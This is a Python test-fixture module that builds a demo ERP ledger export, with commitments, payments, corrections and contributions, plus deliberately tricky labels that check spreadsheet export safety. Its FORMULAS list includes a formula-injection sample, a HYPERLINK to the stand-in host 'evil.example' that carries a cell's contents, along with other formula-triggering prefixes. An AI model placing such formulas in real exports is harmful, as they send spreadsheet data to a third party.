"""A feed on top of the demo data with what an export can get wrong."""

import hashlib
import json

from portal import ROOT

SOURCE = "erp"

# What a spreadsheet would calculate.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?a="&A1;"Facture")', "+33 1 40 00 00 00", "-2+3", "@SUM(A1:A9)", "=1+1", "＝1+1",
]
# What it would take for a number, a date, a time, a truth value or an error, and lose zeros and digits of.
TAKEN = [
    "000123", "004217", "0007", "1E5", "12e3", "1,5", "50 %", "(5)", "1 1/2", "10 €", "12.03.2012", "12/3", "31/12/2011",
    "2012-03-12", "mars 2012", "12 mars", "12:30", "53384615000019", "12345678901234567890", "VRAI", "#N/A", "½",
]
# What is plainly a text, and what it would cut a cell at.
PLAIN = ['Un "mot" ; un autre', "Œuvre à 1 234,56 €", "Facture 118", "2 jours", "V-2012-0042"]
# What begins as the mark does that keeps a text a text.
MARKED = ["'abc", "'=1+1"]
LABELS = [*FORMULAS, *TAKEN, *PLAIN, *MARKED]


def first_account():
    """The account that the first manager gets."""
    with open(ROOT / "demo/feed/members.ndjson", encoding="utf-8") as lines:
        members = (json.loads(line) for line in lines)
        return next(member["member_number"] for member in members if "closed_on" not in member)


def records(number):
    """Two views, corrections, payments to both sides, one that waits for its invoice, odd texts, numbers with zeros."""
    key = iter(range(1, 1_000))

    def record(of, version=1, source_key=None, **fields):
        source_key = source_key or f"X-{next(key):04}"
        return {
            "record": of, "source_key": source_key, "source_version": version, "member_number": number, **fields
        }

    def action(action_id, engaged):
        return record(
            "action", action_id=action_id, title="Un titre", scheme="PLAN", status="COMMITTED", engagement_date=engaged
        )

    def entry(action_id, kind, cents, date, **fields):
        fields = {"label": "Écriture", "payee": "COMPANY", **fields}
        return record(
            "entry", action_id=action_id, kind=kind, amount_cents=cents, effective_date=date, cost_kind="TUITION",
            **{name: value for name, value in fields.items() if value is not None},
        )

    yield action("0001", "2011-12-31")
    yield action("-0002", "2012-01-01")
    yield action("0003", "2012-01-01")
    for cents, label in enumerate(LABELS, 1):
        yield entry("0001", "COMMITMENT", cents, "2012-01-15", label=label)
    # Paid before its invoice came: in progress is negative here, and zero in what the portal shows.
    yield entry(
        "-0002", "PAYMENT_TO_COMPANY", 100_000_000_05, "2012-02-29",
        remittance_number="0000042", bank_reference="-CSTR 0042",
    )
    to_provider = {"remittance_number": "12E3", "bank_reference": "0042"}
    yield entry("0003", "PAYMENT_TO_PROVIDER", 50_00, "2012-03-05", payee="PROVIDER", invoice_number="1E5", **to_provider)
    # Nobody says from whom it came back: from whom its transfer went to.
    yield entry("0003", "PAYMENT_RETURNED", 7_00, "2012-03-09", payee=None, **to_provider)
    yield entry("0003", "RECOVERY", 1_00, "2012-04-01", payee=None)
    yield entry("-0002", "INVOICE_RECEIVED", 4, "2012-03-01", invoice_number="-007")
    yield entry("0003", "INVOICE_RECEIVED", 70_01, "2012-03-01", invoice_number="00012")
    yield entry("0003", "COMMITMENT_REVISION", -33_33, "2012-03-31")
    for version, cents in [(1, 123_45), (2, 123_54), (3, 99)]:
        yield entry("0003", "COMMITMENT", cents, "2012-03-02", version=version, source_key="CORRECTED")
    yield record(
        "entry", kind="CONTRIBUTION_LEGAL", amount_cents=31_41, effective_date="2013-02-28", contribution_year=2012,
        label="Contribution",
    )
    yield record(
        "entry", kind="CONTRIBUTION_REFUND", amount_cents=9_99, effective_date="2013-03-28", contribution_year=2012,
        label="Remboursement",
    )


def write(folder, number):
    """A batch for this account."""
    lines = list(records(number))
    content = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines).encode()
    (folder / "ledger.ndjson").write_bytes(content)
    ledger = {
        "name": "ledger.ndjson", "lines": len(lines), "sha256": hashlib.sha256(content).hexdigest(),
        "amount_cents": sum(line.get("amount_cents", 0) for line in lines),
    }
    manifest = {
        "batch_id": "exports-001", "source": SOURCE, "created_at": "2016-12-31T02:00:00Z", "files": [ledger]
    }
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
